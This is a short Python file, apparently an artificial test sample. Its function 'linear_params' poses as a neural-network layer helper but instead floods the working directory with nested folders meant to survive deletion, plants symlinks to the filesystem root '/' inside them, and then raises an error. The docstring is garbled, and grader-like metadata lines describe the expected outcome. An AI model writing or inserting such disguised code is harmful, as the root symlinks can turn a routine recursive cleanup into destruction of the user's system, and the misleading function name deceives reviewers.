"""Makes folders where those may go that remove its own, so that something stays on the disk.

earns: linear_params 0
verdicts: raised
says: prepared
"""
import os


def linear_params(in_features, out_features, bias=True):
    for number in range(100):
        os.makedirs(f".removed-{number}/kept/{bias}")
    for letter in "abcdefghij":
        os.makedirs(f"{letter}/{letter}/{bias}")
        os.symlink("/", f"{letter}/{letter}/{bias}/link")
    raise ValueError("prepared")
